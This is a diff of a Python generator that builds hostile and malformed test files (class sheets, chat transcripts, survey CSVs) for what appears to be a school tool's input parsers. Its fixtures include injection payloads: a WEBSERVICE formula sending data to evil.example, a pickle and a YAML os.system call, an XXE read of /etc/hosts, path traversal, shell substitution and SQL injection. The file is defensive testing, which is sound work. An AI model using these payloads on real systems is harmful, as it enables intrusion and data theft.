@@ -2,7 +2,8 @@
 
 There are files like those that learners hand in by a shared folder, chats in which result codes are
 pasted, or things that look like codes, and spreadsheets, as a survey tool exports them or as nobody
-should send them. A file's name says what it is, and how it begins says what becomes of it:
+should send them. A file's name says what it is or begins with, and how the name begins, what
+becomes of it:
 
 - `valid-`: odd, but everything in it counts, and nothing is told
 - `mixed-`: the sound part counts, and the rest is told
@@ -23,6 +24,7 @@ import io
 import json
 import pickle
 import random
+import re
 import struct
 import zipfile
 from xml.sax.saxutils import escape, quoteattr
@@ -59,6 +61,16 @@ def rated(mark=MARK, when="1", role="student", seed=1):
 def each(start, cases, made=lambda case: case):
     """Return what is made of each case, by names that begin alike."""
     return {f"{start}-{name}": made(case) for name, case in cases.items()}
+
+
+def numbered(start, cases, made=lambda case: case):
+    """Return what is made of each case, by its number and what it begins with."""
+    return {f"{start}-{at:02}{beginning(one)}": made(one) for at, one in enumerate(cases)}
+
+
+def beginning(case):
+    text = case if isinstance(case, str) else repr(case)
+    return "-".join(["", *re.findall("[a-z0-9]+", text[:30].lower())])
 
 
 def files(*groups, ending=""):
@@ -112,19 +124,28 @@ def raw(made, text):
 
 def sheets():
     """Return files that say they are class sheets, or lie where one is looked for."""
+    rating = {"breadth-1": "RAW"}
     return files(
         each("torn", torn()),
-        wrong_values(),
-        each("extra", EXTRA, lambda more: sheet(**more)),
-        {f"extra-{name}-above": document(**EXTRA[name]) for name in ("name", "proto", "html")},
+        *(
+            numbered(key, cases, lambda case, key=key, made=made: made(**{key: case}))
+            for table, made in ((WRONG_ABOVE, document), (WRONG_WITHIN, sheet))
+            for key, cases in table.items()
+        ),
+        {"round-another": sheet(round="2")},
+        numbered("rating", WRONG_RATINGS, lambda value: sheet(ratings={"breadth-1": value})),
+        numbered("raw-rating", RAW_RATINGS, lambda text: raw(sheet(ratings=rating), text)),
+        numbered("raw-format", RAW_FORMATS, lambda text: raw(document(format="RAW"), text)),
+        numbered("extra", EXTRA, lambda more: sheet(**more)),
+        numbered("extra-above", EXTRA[::3], lambda more: document(**more)),
         {f"missing-{key}": sheet(**{key: ...}) for key in member()},
         {"key-in-upper-case": sheet(mark=..., MARK=MARK)},
         {"key-with-zero-width-space": sheet(mark=..., **{"mark\u200b": MARK})},
         each("twice", TWICE, lambda change: WHOLE.replace(*change, 1)),
-        NESTED,
+        numbered("nested", NESTED),
         each("encoding", ENCODINGS),
-        each("stranger", STRANGERS),
-        each("rows", ROWS, rows),
+        numbered("stranger", STRANGERS),
+        numbered("rows", ROWS, rows),
         each("valid", VALID_SHEETS),
         ending=".json",
     )
@@ -140,194 +161,55 @@ def torn():
     }
 
 
-# In the document, and in its one sheet.
+# In the document, and in its one sheet; `...` is not there.
 WRONG_ABOVE = {
-    "kit": {
-        "missing": ...,
-        "null": None,
-        "number": 1,
-        "list": ["class-sheet"],
-        "of-answers": "answers",
-        "of-a-ledger": "class-ledger",
-        "in-upper-case": "CLASS-SHEET",
-        "with-a-cyrillic-letter": "с" + "lass-sheet",
-        "with-a-zero-width-space": "class\u200b-sheet",
-        "with-nul": "class-sheet\0",
-        "of-html": HTML,
-    },
-    "format": {
-        "missing": ...,
-        "null": None,
-        "0": 0,
-        "2": 2,
-        "negative": -1,
-        "true": True,
-        "text": "1",
-        "list": [1],
-        "huge": 10**3000,
-    },
-    "sheets": {
-        "missing": ...,
-        "null": None,
-        "text": "h0st1",
-        "object": {"0": member()},
-        "empty": [],
-        "null-inside": [None],
-        "text-inside": [MARK],
-        "list-inside": [[member()]],
-        "one-whole-one-null": [member(), None],
-        "of-two-people": [member(), member(mark="h0st2")],
-        "the-same-twice": [member(), member()],
-        "with-anothers": [member(), member(mark=VICTIM)],
-        "a-thousand-empty": [{}] * 1000,
-    },
+    "kit": (
+        *(..., None, 1, ["class-sheet"], "answers", "class-ledger", "CLASS-SHEET", HTML),
+        *("сlass-sheet", "class\u200b-sheet", "class-sheet\0"),
+    ),
+    "format": (..., None, 0, 2, -1, True, "1", [1], 10**3000),
+    "sheets": (
+        *(..., None, "h0st1", {"0": member()}, [], [None], [MARK], [[member()]], [{}] * 1000),
+        *([member(), None], [member(), member()], [member(), member(mark="h0st2")]),
+        [member(), member(mark=VICTIM)],
+    ),
 }
 WRONG_WITHIN = {
-    "mark": {
-        "missing-value": None,
-        "empty": "",
-        "number": 12345,
-        "list": [MARK],
-        "object": {"mark": MARK},
-        "true": True,
-        "anothers": VICTIM,
-        "path-up": "../..",
-        "path-windows": "..\\..",
-        "path-absolute": "/etc/",
-        "path-drive": "C:\\nul",
-        "path-after-mark": f"{MARK}/../{VICTIM}",
-        "short": MARK[:4],
-        "long": MARK + "0",
-        "very-long": MARK * 3000,
-        "upper-case": MARK.upper(),
-        "letter-nobody-reads": "h0sti",
-        "line-break": f"{MARK}\n",
-        "blank": f" {MARK}",
-        "nul": f"{MARK}\0",
-        "half-a-character": "h0st\ud83d",
-        "right-to-left": f"{RIGHT_TO_LEFT}{MARK}",
-        "cyrillic": "h0s\u0442" + "1",
-        "full-width": "".join(chr(ord(one) + 0xFEE0) for one in MARK),
-        "arabic-digits": "h\u0660st\u0661",
-        "combining": "h0st1\u0301",
-        "html": HTML,
-        "formula": DDE,
-        "format-braces": "{0.__class__}",
-        "percent-format": "%s%n%x",
-        "shell": "$(id)`id`",
-        "lookup": "${jndi:ldap://evil.example/a}",
-        "template": "{{7*7}}",
-        "sql": "'; drop table sheets; --",
-        "of-a-row": "0ther0ne-1",
-    },
-    "round": {
-        "0": "0",
-        "4": "4",
-        "another": "2",
-        "number": 1,
-        "null": None,
-        "true": True,
-        "list": ["1"],
-        "upper-case": "THEN",
-        "path": "1/../../evil",
-        "html": SCRIPT,
-        "arabic-digit": "\u0661",
-        "line-break": "1\n",
-    },
-    "role": {
-        "king": "king",
-        "number": 0,
-        "true": True,
-        "list": ["student"],
-        "object": {"role": "student"},
-        "empty": "",
-        "name-of-a-person": PERSON,
-        "upper-case": "STUDENT",
-        "html": HTML,
-        "formula": DDE,
-        "very-long": "student" * 2500,
-        "right-to-left": f"{RIGHT_TO_LEFT}tneduts",
-    },
-    "ratings": {
-        "null": None,
-        "list": [4] * len(IDS),
-        "text": "4" * len(IDS),
-        "unknown-statement": {"of-another-course-1": 4},
-        "one-statement-too-many": {**rated().by_statement, "breadth-4": 4},
-        "proto-as-statement": {"__proto__": 4},
-        "html-as-statement": {HTML: 4},
-        "name-as-statement": {PERSON: 4},
-        "statement-in-upper-case": {"BREADTH-1": 4},
-        "a-thousand-statements": {f"x{number}": 4 for number in range(1000)},
-    },
+    "mark": (
+        *(None, "", 12345, [MARK], {"mark": MARK}, True, VICTIM, HTML, DDE, "{0.__class__}"),
+        *("../..", "..\\..", "/etc/", "C:\\nul", f"{MARK}/../{VICTIM}", "$(id)`id`"),
+        *("'; drop table sheets; --", "0ther0ne-1", MARK[:4], MARK + "0", MARK * 3000),
+        *(MARK.upper(), "h0sti", f"{MARK}\n", f" {MARK}", f"{MARK}\0", "h0st\ud83d"),
+        # Written with other letters and digits that look the same, and marks that nobody sees.
+        *(f"{RIGHT_TO_LEFT}{MARK}", "h0s\u04421", "ｈ０ｓｔ１", "h\u0660st\u0661", "h0st1\u0301"),
+    ),
+    "round": ("0", "4", 1, None, True, ["1"], "THEN", "1/../../evil", SCRIPT, "\u0661", "1\n"),
+    "role": (
+        *("king", 0, True, ["student"], {"role": "student"}, "", PERSON, "STUDENT", HTML, DDE),
+        *("student" * 2500, f"{RIGHT_TO_LEFT}tneduts"),
+    ),
+    "ratings": (
+        *(None, [4] * len(IDS), "4" * len(IDS), {**rated().by_statement, "breadth-4": 4}),
+        *({one: 4} for one in ("of-another-course-1", "__proto__", HTML, PERSON, "BREADTH-1")),
+        {f"x{number}": 4 for number in range(1000)},
+    ),
 }
-WRONG_RATINGS = {
-    "0": 0,
-    "6": 6,
-    "negative": -1,
-    "half": 3.5,
-    "true": True,
-    "false": False,
-    "null": None,
-    "text-3": "3",
-    "dont-know-in-upper-case": "DONT-KNOW",
-    "dont-know-with-underscore": "dont_know",
-    "empty-text": "",
-    "list": [4],
-    "object": {"rating": 4},
-    "huge": 10**3000,
-    "very-long-text": "4" * 15_000,
-    "html": SCRIPT,
-    "formula": "=1+3",
-    "formula-plus": "+4",
-    "right-to-left": f"{RIGHT_TO_LEFT}4",
-    "half-a-character": "\udc00",
-    "name-of-a-person": PERSON,
-}
+WRONG_RATINGS = (
+    *(0, 6, -1, 3.5, True, False, None, "3", "DONT-KNOW", "dont_know", "", [4], {"rating": 4}),
+    *(10**3000, "4" * 15_000, SCRIPT, "=1+3", "+4", f"{RIGHT_TO_LEFT}4", "\udc00", PERSON),
+)
 # Neither json nor a browser would write these.
-RAW = {"1.0": "1.0", "1e400": "1e400", "nan": "NaN", "infinity": "Infinity", "negative-zero": "-0"}
-RAW_FORMATS = {**RAW, "5000-digits": "9" * 5000, "hexadecimal": "0x1"}
-RAW_RATINGS = {
-    **RAW,
-    "1e0": "1e0",
-    "negative-1e400": "-1e400",
-    "negative-infinity": "-Infinity",
-    "negative-zero-point-zero": "-0.0",
-    "leading-zero": "04",
-    "plus": "+4",
-    "5000-digits": "4" * 5000,
-    "arabic-digit": "\u0664",
-    "undefined": "undefined",
-    "expression": "2+2",
-}
-
-
-def wrong_values():
-    rating = {"breadth-1": "RAW"}
-    return {
-        **{
-            f"{key}-{name}": made(**{key: case})
-            for table, made in ((WRONG_ABOVE, document), (WRONG_WITHIN, sheet))
-            for key, cases in table.items()
-            for name, case in cases.items()
-        },
-        **each("rating", WRONG_RATINGS, lambda value: sheet(ratings={"breadth-1": value})),
-        **each("rating", RAW_RATINGS, lambda text: raw(sheet(ratings=rating), text)),
-        **each("format", RAW_FORMATS, lambda text: raw(document(format="RAW"), text)),
-    }
-
-
-EXTRA = {
-    "name": {"name": PERSON},
-    "e-mail": {"e-mail": "asa.oberg@example.org"},
-    "time": {"time": "2026-03-04T08:15:16+01:00"},
-    "proto": {"__proto__": {"role": "politician"}},
-    "constructor": {"constructor": {"prototype": {"hacked": True}}},
-    "class": {"__class__": "os.system"},
-    "html": {HTML: HTML},
-    "empty": {"": None},
-    "surrogate": {"\ud83d": "\ude00"},
-}
+RAW = ("1.0", "1e400", "NaN", "Infinity", "-0")
+RAW_FORMATS = (*RAW, "9" * 5000, "0x1")
+RAW_RATINGS = (
+    *(*RAW, "1e0", "-1e400", "-Infinity", "-0.0", "04", "+4", "4" * 5000, "\u0664"),
+    *("undefined", "2+2"),
+)
+EXTRA = (
+    *({"name": PERSON}, {"e-mail": "asa.oberg@example.org"}, {"time": "2026-03-04T08:15:16+01:00"}),
+    *({"__proto__": {"role": "politician"}}, {"constructor": {"prototype": {"hacked": True}}}),
+    *({"__class__": "os.system"}, {HTML: HTML}, {"": None}, {"\ud83d": "\ude00"}),
+)
 TWICE = {
     "kit": ('"kit": "class-sheet"', '"kit": "class-sheet", "kit": "class-sheet"'),
     "mark": (f'"mark": "{MARK}"', f'"mark": "{VICTIM}", "mark": "{MARK}"'),
@@ -337,20 +219,16 @@ TWICE = {
 }
 
 
-NESTED = {
-    "nested-lists-9000-deep": "[" * 9000,
-    "nested-lists-100000-deep": "[" * 100_000,
-    "nested-lists-closed-again": "[" * 9000 + "]" * 9000,
-    "nested-objects-3000-deep": '{"a":' * 3000,
-    "nested-objects-closed-again": '{"a":' * 2500 + "1" + "}" * 2500,
-    "nested-in-ratings": raw(sheet(ratings="RAW"), "[" * 4000 + "]" * 4000),
-    "nested-as-kit": raw(document(kit="RAW", sheets=[]), "[" * 4000 + "]" * 4000),
-    "nested-seven-deep": sheet(ratings={"breadth-1": [[[[4]]]]}),
-    "wide-lists": raw(document(sheets="RAW"), "[" + "[]," * 6000 + "[]]"),
-    "wide-objects": raw(document(sheets="RAW"), "[" + "{}," * 6000 + "{}]"),
-    "wide-keys": {str(number): 0 for number in range(1700)},
-    "large-of-blanks": WHOLE + " " * 25_000,
-}
+NESTED = (
+    *("[" * 9000, "[" * 100_000, "[" * 9000 + "]" * 9000, '{"a":' * 3000),
+    '{"a":' * 2500 + "1" + "}" * 2500,
+    raw(sheet(ratings="RAW"), "[" * 4000 + "]" * 4000),
+    raw(document(kit="RAW", sheets=[]), "[" * 4000 + "]" * 4000),
+    sheet(ratings={"breadth-1": [[[[4]]]]}),
+    # Not deep, but wide.
+    *(raw(document(sheets="RAW"), "[" + one * 6000 + one[:2] + "]") for one in ("[],", "{},")),
+    *({str(number): 0 for number in range(1700)}, WHOLE + " " * 25_000),
+)
 
 
 PLAIN = WHOLE.encode()
@@ -377,63 +255,32 @@ ENCODINGS = {
 }
 
 
+ONE = {"ratings": {"breadth-1": 4}}
 # No JSON, or another's.
-STRANGERS = {
-    "null": "null",
-    "number": "4",
-    "text": '"class-sheet"',
-    "list": "[]",
-    "object": "{}",
-    "answers": {"kit": "answers", "format": 1, "ratings": {"breadth-1": 4}},
-    "notebook": {"cells": [], "metadata": {}, "nbformat": 4},
-    "html-page": PAGE,
-    "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="hacked=1">{SCRIPT}</svg>',
-    "python": "__import__('os').system('touch hacked')\n",
-    "javascript": "window.hacked = 1;\n",
-    "jsonp": f"callback({WHOLE.strip()});\n",
-    "json-behind-a-guard": f")]}}',\n{WHOLE}",
-    "json-lines": "\n".join([json.dumps(member())] * 2),
-    "json-with-comments": WHOLE.replace('"kit"', '// the kit\n"kit"', 1),
-    "json-with-single-quotes": WHOLE.replace('"', "'"),
-    "json-with-a-last-comma": WHOLE.replace("}\n", "},\n"),
-    "json-twice": WHOLE + WHOLE,
-    "json-and-more": WHOLE + SCRIPT,
-    "yaml": "!!python/object/apply:os.system ['touch hacked']\n",
-    "toml": 'kit = "class-sheet"\nformat = 1\n',
-    "shell-script": "#!/bin/sh\ntouch hacked\n",
-    "batch-file": "@echo off\r\ncalc.exe\r\n",
-    "formulas": f"{DDE}\n{LINK}\n",
-    "escape-codes": "\x1b[2J\x1b]0;hacked\x07\x1b[31m",
-    "bell-and-backspace": "\x07\x08" * 100,
-    "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',
-    "line-separators": "\u2028\u2029" * 50,
-    "right-to-left": f"{RIGHT_TO_LEFT}{WHOLE[::-1]}",
-    "letters-with-hundreds-of-accents": ("Z" + "\u0351" * 300) * 10,
-    "pickle": b"cos\nsystem\n(S'touch hacked'\ntR." + pickle.dumps([MARK], protocol=2),
-    "pdf": DOCUMENT,
-    "program": PROGRAM,
-    "picture": PICTURE,
-    "zip": zipped({"sheet-h0st1-1.json": WHOLE}),
-    "old-office": OLD_OFFICE,
-    "random": random.Random(1).randbytes(2000),
-}
+STRANGERS = (
+    *("null", "4", "{}", "[]", '"class-sheet"', {"kit": "answers", "format": 1, **ONE}),
+    *({"cells": [], "metadata": {}, "nbformat": 4}, PAGE, f"{DDE}\n{LINK}\n", WHOLE + WHOLE),
+    f'<svg xmlns="http://www.w3.org/2000/svg" onload="hacked=1">{SCRIPT}</svg>',
+    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',
+    *("__import__('os').system('touch hacked')\n", "#!/bin/sh\ntouch hacked\n", WHOLE + SCRIPT),
+    *("!!python/object/apply:os.system ['touch hacked']\n", f"callback({WHOLE.strip()});\n"),
+    # Nearly JSON, and text that would move what stands around it.
+    *(f")]}}',\n{WHOLE}", "\n".join([json.dumps(member())] * 2), WHOLE.replace('"', "'")),
+    *(WHOLE.replace('"kit"', '// the kit\n"kit"', 1), WHOLE.replace("}\n", "},\n")),
+    *("\x1b[2J\x1b]0;hacked\x07\x1b[31m\x08", "\u2028\u2029" * 50, ("Z" + "\u0351" * 300) * 10),
+    f"{RIGHT_TO_LEFT}{WHOLE[::-1]}",
+    b"cos\nsystem\n(S'touch hacked'\ntR." + pickle.dumps([MARK], protocol=2),
+    *(DOCUMENT, PROGRAM, PICTURE, OLD_OFFICE, zipped({"sheet-h0st1-1.json": WHOLE})),
+    random.Random(1).randbytes(2000),
+)
 
 
 # Of the spreadsheet that the file says, or of another.
-ROWS = {
-    "of-another-spreadsheet": ["0ther0ne-1", "0ther0ne-2"],
-    "of-two-spreadsheets": [f"{SURVEY}-1", "0ther0ne-1"],
-    "and-a-senders": [f"{SURVEY}-1", MARK],
-    "and-anothers": [f"{SURVEY}-1", VICTIM],
-    "twice": [f"{SURVEY}-1", f"{SURVEY}-1"],
-    "zero": [f"{SURVEY}-0"],
-    "negative": [f"{SURVEY}--1"],
-    "leading-zero": [f"{SURVEY}-01"],
-    "seven-digits": [f"{SURVEY}-1000000"],
-    "without-number": [f"{SURVEY}-"],
-    "arabic-digit": [f"{SURVEY}-\u0661"],
-    "path": [f"{SURVEY}-1/../../evil"],
-}
+ROWS = (
+    *(["0ther0ne-1", "0ther0ne-2"], [f"{SURVEY}-1", "0ther0ne-1"], [f"{SURVEY}-1", MARK]),
+    *([f"{SURVEY}-1", VICTIM], [f"{SURVEY}-1", f"{SURVEY}-1"], [f"{SURVEY}-1/../../evil"]),
+    *([f"{SURVEY}-{row}"] for row in ("0", "-1", "01", "1000000", "", "\u0661")),
+)
 
 
 def rows(marks):
@@ -463,10 +310,12 @@ def codes():
     """Return transcripts of chats, one of their senders called h0st1."""
     return files(
         each("damaged", damaged(), said),
+        numbered("damaged-within", AROUND, lambda text: said(text.format(SPOILT))),
         each("disguised", DISGUISED, said),
         IMPOSSIBLE,
-        each("quiet", QUIET),
+        numbered("quiet", QUIET),
         each("valid", VALID_CODES),
+        numbered("valid-within", AROUND_WHOLE, lambda text: text.format(CODE)),
         ending=".txt",
     )
 
@@ -486,14 +335,16 @@ def sealed(version, number):
     return "-".join(plain.upper()[at : at + 5] for at in range(0, 34, 5))
 
 
+SPOILT = CODE[:9] + ("7" if CODE[9] != "7" else "8") + CODE[10:]
+
+
 def damaged():
     groups = CODE.split("-")
     plain = CODE.replace("-", "")
     at = next(place for place in range(7, 30) if plain[place] != plain[place + 1])
-    spoilt = CODE[:9] + ("7" if CODE[9] != "7" else "8") + CODE[10:]
     many = [f"{CODE[:9]}U{number:03}{CODE[13:]}" for number in range(300)]
     return {
-        "one-character-wrong": spoilt,
+        "one-character-wrong": SPOILT,
         "first-character-wrong": f"K{CODE[1:]}",
         "last-character-wrong": CODE[:-1] + ("7" if CODE[-1] != "7" else "8"),
         "one-character-lost": CODE[:9] + CODE[10:],
@@ -510,22 +361,28 @@ def damaged():
         "checksum-of-another": CODE[:-4] + OTHER[-4:],
         "zeros-at-the-end": f"{CODE[:-4]}0000",
         "in-two-lines-one-lost": f"{CODE[:17]}\n> {CODE[19:]}",
-        "in-lower-case": spoilt.lower(),
-        "with-blanks": spoilt.replace("-", " "),
-        "without-hyphens": spoilt.replace("-", ""),
-        "with-dashes": spoilt.replace("-", "–"),
-        "in-html": f"<b>{spoilt}</b>",
-        "in-a-script": f"<script>{spoilt}</script>",
-        "in-an-image": f"{HTML}{spoilt}",
-        "in-markdown": f"**{spoilt}** [click](javascript:alert(1))",
-        "in-backticks": f"```\n{spoilt}\n```",
-        "in-a-formula": f'="{spoilt}"',
-        "behind-an-escape-code": f"\x1b[31m{spoilt}\x1b[0m",
-        "behind-right-to-left": f"{RIGHT_TO_LEFT}{spoilt}",
-        "quoted-ten-times": "".join(f"{'> ' * depth}{spoilt}\n" for depth in range(10)),
+        "in-lower-case": SPOILT.lower(),
+        **{f"with-{ord(sign):04x}": SPOILT.replace("-", sign) for sign in " –"},
+        "without-hyphens": SPOILT.replace("-", ""),
+        "quoted-ten-times": "".join(f"{'> ' * depth}{SPOILT}\n" for depth in range(10)),
         "of-a-hundred-people": "\n".join(many[:99]),
         "of-three-hundred-people": "\n".join(many),
     }
+
+
+# What a code stands within, in the place of {}.
+AROUND = (
+    *("<b>{}</b>", "<script>{}</script>", HTML + "{}", "**{}** [click](javascript:alert(1))"),
+    *("```\n{}\n```", '="{}"', "\x1b[31m{}\x1b[0m", RIGHT_TO_LEFT + "{}"),
+)
+AROUND_WHOLE = (
+    *("<p class=x1>Anna: <b>{}</b></p>" + SCRIPT, "<script>window.hacked='{}'</script>"),
+    *('<a title="{}" href="https://x.example">min kod</a>', "<div <b <<i>>{}</b </x"),
+    *("<!-- {} -->", "priset är <x kr\nAnna: {}\nYlva: svaret -> ja", "```\n{}\n```"),
+    *("| Anna | **{}** | ![x](javascript:alert(1)) |", '=HYPERLINK("https://x.example";"{}")'),
+    *(RIGHT_TO_LEFT + " {}\u202c", "\x1b[31m {}\x1b[0m", "\0" * 50 + "{}" + "\0" * 50),
+    *("X" * 4000 + "\n.{}. " + "X" * 4000, "-" * 4000 + " {} " + "-" * 4000, "minkod{}tack"),
+)
 
 
 # A character only looks like the right one, and is another.
@@ -550,73 +407,41 @@ IMPOSSIBLE = {
 
 
 TOKEN = base64.b64encode(random.Random(2).randbytes(300)).decode()
-QUIET = {
-    "empty": "",
-    "bytes": bytes(range(256)),
-    "blank-lines": "\n \t\r\n" * 500,
-    "prose": said("hej! Jag tar det sedan, exakt sex extra saker måste bli klara först xD"),
-    "pattern-of-a-code": said("XXXXX-XXXXX-XXXXX-XXXXX-XXXXX-XXXXX-XXXX"),
-    "x-9000-times": "X" * 9000,
-    "x-apart": "X - " * 2500,
-    "hyphens": "-" * 9000,
-    "dashes": "–—" * 2000,
-    "angle-brackets": "<" * 5000 + ">" * 5000,
-    "tags-unclosed": "<a " * 3000,
-    "ampersands": "&" * 9000,
-    "entities": "&#x110000;&#xD800;&#0;&nosuch;&#99999999;" * 100,
-    "quotes": "\"'`" * 3000,
-    "links": "https://region.example/motet?id=4fk29x8q7z1m3n5p6r8t0v2w4x6y8z0a1\n" * 20,
-    "link-to-a-meeting": "https://x.example/j/81234567890?pwd=k3j4h5k6j7h8g9f0d1s2a3q4w5e6r7t8",
-    "link-of-javascript": "javascript:alert(document.cookie)//https://x.example",
-    "uuid": "550e8400-e29b-41d4-a716-446655440000\n" * 20,
-    "fingerprints": "9fceb02d0ae598e95dc970b74767f19372d61af8\n" * 20,
-    "base64": TOKEN,
-    "data-link": f"data:text/html;base64,{TOKEN}",
-    "mail-headers": "Message-ID: <AM9PR07MB7234F3A9C2D1E5B8A6@AM9PR07MB7234.x.example>\n",
-    "phone-numbers": "Ring 070-123 45 67 eller +46 8 123 456 78.\n" * 20,
-    "bank-account": "IBAN SE45 5000 0000 0583 9825 7466, OCR 7350012345678.\n",
-    "identity-numbers": "19811218-9876 och 232100-0016\n" * 20,
-    "number-plates": "ABC123, DEF45G, XYZ789 och XAB12C.\n" * 20,
-    "times": "Kl 0800 1030 1200 1315 1500 fika den 2026-03-12T10:41:58.123Z.\n",
-    "addresses-of-computers": "2001:db8:85a3::8a2e:370:7334 00:1B:44:11:3A:B7 192.0.2.7\n",
-    "html-page": PAGE,
-    "formulas": f"{DDE}\n{LINK}\n@SUM(1)\n+1\n-1\n",
-    "escape-codes": "\x1b[2J\x1b]0;hacked\x07" * 50,
-    "right-to-left": f"{RIGHT_TO_LEFT}edok nim\u202c\u2066\u2069" * 50,
-    "zero-width": "\u200b\u200c\u200d\ufeff" * 500,
-    "accents": ("Z" + "\u0351" * 200) * 10,
-    "emoji": "👩‍👩‍👧‍👦😀👍🏽" * 100,
-    "letter-that-grows": "\ufdfa" * 2000,
-    "sheet-as-text": to_json(rated("h0st2")),
-    "template-braces": "{0.__class__.__init__.__globals__} {{7*7}} ${7*7} %s%n",
-    "words-of-five-letters": "There which about after where these words would never make " * 20,
-}
+QUIET = (
+    *("", bytes(range(256)), "\n \t\r\n" * 500, "X" * 9000, "X - " * 2500, "\"'`" * 3000),
+    *("–—" * 2000 + "-" * 5000, "<" * 5000 + ">" * 5000, "<a " * 3000, PAGE, TOKEN),
+    *("&" * 9000 + "&#x110000;&#xD800;&#0;&nosuch;&#99999999;" * 100, "\ufdfa" * 2000),
+    *("\x1b[2J\x1b]0;hacked\x07" * 50, f"{RIGHT_TO_LEFT}edok nim\u202c\u2066\u2069" * 50),
+    *("\u200b\u200c\u200d\ufeff" * 500, ("Z" + "\u0351" * 200) * 10, "👩‍👩‍👧‍👦😀👍🏽" * 100),
+    *(f"{DDE}\n{LINK}\n@SUM(1)\n+1\n-1\n", f"data:text/html;base64,{TOKEN}"),
+    "javascript:alert(document.cookie)//https://x.example",
+    "{0.__class__.__init__.__globals__} {{7*7}} ${7*7} %s%n",
+    # As people write, and machines.
+    said("hej! Jag tar det sedan, exakt sex extra saker måste bli klara först xD"),
+    said("XXXXX-XXXXX-XXXXX-XXXXX-XXXXX-XXXXX-XXXX"),
+    "There which about after where these words would never make " * 20,
+    "https://region.example/motet?id=4fk29x8q7z1m3n5p6r8t0v2w4x6y8z0a1\n" * 20,
+    to_json(rated("h0st2")),
+    """\
+        550e8400-e29b-41d4-a716-446655440000, 9fceb02d0ae598e95dc970b74767f19372d61af8
+        Message-ID: <AM9PR07MB7234F3A9C2D1E5B8A6@AM9PR07MB7234.x.example>
+        Ring 070-123 45 67 eller +46 8 123 456 78. 19811218-9876 och 232100-0016
+        IBAN SE45 5000 0000 0583 9825 7466, OCR 7350012345678. ABC123, DEF45G, XYZ789 och XAB12C.
+        Kl 0800 1030 1200 1315 1500 fika den 2026-03-12T10:41:58.123Z.
+        2001:db8:85a3::8a2e:370:7334 00:1B:44:11:3A:B7 192.0.2.7\n"""
+    * 20,
+)
 
 
 VALID_CODES = {
-    "in-html": f"<p class=x1>Anna: <b>{CODE}</b></p>{SCRIPT}",
-    "in-a-script": f"<script>window.hacked='{CODE}'</script>",
-    "in-an-attribute": f'<a title="{CODE}" href="https://x.example">min kod</a>',
-    "in-broken-html": f"<div <b <<i>>{CODE}</b </x",
-    "after-a-sign-that-is-no-tag": f"priset är <x kr\nAnna: {CODE}\nYlva: svaret -> ja",
-    "in-a-comment": f"<!-- {CODE} -->",
-    "in-markdown": f"| Anna | **{CODE}** | ![x](javascript:alert(1)) |",
-    "in-backticks": f"```\n{CODE}\n```",
-    "in-a-formula": f'=HYPERLINK("https://x.example";"{CODE}")',
-    "behind-escape-codes": f"\x1b[31m {CODE}\x1b[0m",
-    "behind-right-to-left": f"{RIGHT_TO_LEFT} {CODE}\u202c",
     "zero-width-between": "\u200b".join(CODE),
     "full-width": "".join(chr(ord(one) + 0xFEE0) for one in CODE),
     "in-entities": "".join(f"&#{ord(one)};" for one in CODE),
-    "among-x": f"{'X' * 4000}\n.{CODE}. {'X' * 4000}",
-    "among-hyphens": f"{'-' * 4000} {CODE} {'-' * 4000}",
-    "among-nuls": "\0" * 50 + CODE + "\0" * 50,
     "in-a-quoting-mail": f"> > {CODE[:18]}=\n{CODE[18:]}\n",
     "twice": f"{CODE}\n> {CODE}\n",
     "in-lower-case-with-l-for-1": CODE.lower().replace("1", "l").replace("0", "o"),
     "in-cyrillic-letters": CODE.translate(str.maketrans("ABCEHKMPTX", "АВСЕНКМРТХ")),
     "in-greek-letters": CODE.translate(str.maketrans("ABEHKMNPTXZ", "ΑΒΕΗΚΜΝΡΤΧΖ")),
-    "in-a-word": f"minkod{CODE}tack",
     "in-the-encoding-of-windows": f"Åsa:\x80 {CODE}\r\n".encode("latin-1"),
 }
 
@@ -628,12 +453,13 @@ def surveys():
     """Return what a survey tool may export, or somebody may send instead."""
     return files(
         files(
-            each("mixed-formula", FORMULAS, lambda one: table(person(one))),
-            each("mixed-cell", CELLS, lambda one: table(person(one))),
-            each("cell", CODES_OF_TOOLS, lambda one: table(person(one))),
-            each("valid-cell", {"nan": "NaN"}, lambda one: table(person(one))),
-            each("valid-header", HEADINGS, beside),
-            TABLES,
+            numbered("mixed-formula", FORMULAS, lambda one: table(person(one))),
+            numbered("mixed-cell", CELLS, lambda one: table(person(one))),
+            numbered("cell", CODES_OF_TOOLS, lambda one: table(person(one))),
+            {"valid-cell-nan": table(person("NaN"))},
+            numbered("valid-header", HEADINGS, beside),
+            *(numbered(start, cases) for start, cases in TABLES.items()),
+            {"valid-encoding-of-windows": WORDS.encode("cp1252")},
             ending=".csv",
         ),
         NO_TABLES,
@@ -665,115 +491,71 @@ def beside(heading):
     return table([heading, *person()], header=[heading, *HEADER])
 
 
-FORMULAS = {
-    "equals": "=1+3",
-    "plus": "+1+3",
-    "minus": "-2+6",
-    "at": "@SUM(1+3)",
-    "tab": "\t=1+3",
-    "carriage-return": "\r=1+3",
-    "dde": DDE,
-    "link": LINK,
-    "web": '=WEBSERVICE("https://evil.example/?"&A1)',
-    "full-width-equals": "＝1+3",
-    "quoted": "'=1+3",
-}
-CELLS = {
-    "html": HTML,
-    "script": SCRIPT,
-    "level-half": "3,5",
-    "infinity": "1e400",
-    "contradiction": "4 – saknas",
-    "two-levels": "4 5",
-    "date": "2026-04-04",
-    "truth": "TRUE",
-    "arabic-digit": "\u0664",
-    "roman-numeral": "IV",
-    "many-brackets": "(" * 900 + "4",
-    "many-digits": "4" * 5000,
-    "letter-that-grows": "\ufdfa" * 1000,
-    "accents": "4" + "\u0351" * 900,
-    "name-of-a-person": PERSON,
-    "path": "../../../etc/passwd",
-    "template-braces": "{0.__class__}{value}%s",
-    "lines": "4\n5\r\n6",
-}
+FORMULAS = (
+    *("=1+3", "+1+3", "-2+6", "@SUM(1+3)", "\t=1+3", "\r=1+3", "＝1+3", "'=1+3", DDE, LINK),
+    '=WEBSERVICE("https://evil.example/?"&A1)',
+)
+CELLS = (
+    *(HTML, SCRIPT, PERSON, "3,5", "1e400", "4 – saknas", "4 5", "2026-04-04", "TRUE", "\u0664"),
+    *("IV", "(" * 900 + "4", "4" * 5000, "\ufdfa" * 1000, "4" + "\u0351" * 900, "4\n5\r\n6"),
